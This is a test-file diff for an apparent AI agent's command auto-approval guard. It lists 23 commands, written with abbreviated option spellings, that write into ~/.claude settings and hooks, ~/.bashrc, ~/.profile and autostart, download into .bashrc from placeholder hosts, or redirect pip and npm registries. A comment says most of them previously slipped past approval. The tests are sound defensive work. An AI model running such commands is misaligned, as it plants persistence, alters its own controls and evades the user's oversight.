@@ -197,3 +197,37 @@ def test_an_abbreviated_output_option_of_a_builder_is_read(command):
 )
 def test_the_same_options_on_ordinary_folders_stay_auto_approved(command):
     stays_auto_where(command)
+
+
+# ... and the same spellings aimed at the home folder's twins (R3.7: `~/.claude`, `$HOME/.bashrc`, the session's
+# autostart folder). 16 of the 23 were auto-approved on main; the other 7 held already (guards).
+HOME_TWINS = [
+    "cp x ~/.claude/settings.json",
+    "cp --target=$HOME/.claude x",
+    "cp --targ ~/.claude/ x",
+    "install --target=$HOME/.codex x",
+    "sort --outp=$HOME/.bashrc x",
+    "sed --in-pl s/a/b/ ~/.bashrc",
+    "tar --ext -f x.tar -C ~",
+    "tar --extr -f x.tar --dir=$HOME",
+    "unzip -d~ x.zip",
+    "unzip -d$HOME x.zip",
+    "unzip -qd$HOME/.claude x.zip",
+    "wget --output-d=$HOME/.bashrc https://x.example/a",
+    "curl --output-d ~/.claude -O https://x.example/settings.json",
+    "git archive -o$HOME/.bashrc HEAD",
+    "openssl enc -in x -out=$HOME/.bashrc",
+    "pip config --user set global.index-url https://e.example",
+    "npm config --location user set registry https://e.example",
+    "dos2unix ~/.bashrc",
+    "npx cpy-cli x ~/.claude",
+    "npx copyfiles x $HOME/.config/autostart",
+    "npx mkdirp ~/.claude/hooks",
+    "coverage html --direc ~/.claude",
+    "pandoc x.md --out=$HOME/.profile",
+]
+
+
+@pytest.mark.parametrize("command", HOME_TWINS)
+def test_the_home_folders_twins_by_the_same_spellings_are_never_auto_approved(command):
+    never_auto_where(command)
